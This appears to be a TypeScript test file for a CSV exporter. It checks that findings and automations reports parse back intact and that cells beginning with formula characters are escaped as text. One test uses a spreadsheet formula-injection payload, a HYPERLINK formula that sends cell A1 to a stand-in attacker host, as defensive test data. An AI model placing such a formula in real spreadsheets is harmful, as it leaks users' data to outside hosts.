/** CSV parses back whole, and no cell of it runs as a formula. */

import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csv } from "./csv.ts";
import { renderText } from "./renderer.ts";
import { anyReport, emptyReport, sampleReport } from "./testing.ts";

const lists = ["findings", "automations"] as const;

function rowsOf(text: string): string[][] {
  return parse(text, { record_delimiter: "\r\n" });
}

describe("csv", () => {
  it.each(lists)("%s parse back: one row each, all of one width, for any report", (of) => {
    fc.assert(
      fc.property(anyReport, (report) => {
        const [header, ...rows] = rowsOf(renderText(csv, report, { of }));
        expect(rows).toHaveLength(report[of].length);
        for (const row of rows) expect(row).toHaveLength(header?.length ?? 0);
      }),
      { numRuns: 60 },
    );
  });

  it.each(lists)("%s hold no formula and no control character, for any report", (of) => {
    fc.assert(
      fc.property(anyReport, (report) => {
        for (const row of rowsOf(renderText(csv, report, { of }))) {
          for (const field of row) {
            expect(field).not.toMatch(/^\s*[=+@]/);
            expect(field).not.toMatch(/^\s*-(?!\d)/);
            expect(field).not.toMatch(/\p{Cc}/u);
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it("ends lines with CRLF and shows a formula as text", () => {
    const text = renderText(csv, sampleReport(), { of: "automations" });
    expect(text.split("\r\n")).toHaveLength(sampleReport().automations.length + 2);
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example.com?""&A1,""open"")"`);
    expect(text).toContain("'+49 171 0000000");
  });

  it("lists findings unless asked for automations, and has a header with nothing in it", () => {
    expect(rowsOf(renderText(csv, emptyReport()))).toHaveLength(1);
    expect(rowsOf(renderText(csv, sampleReport()))[1]?.[0]).toBe("3f9c21d07a4be6c85512");
  });
});
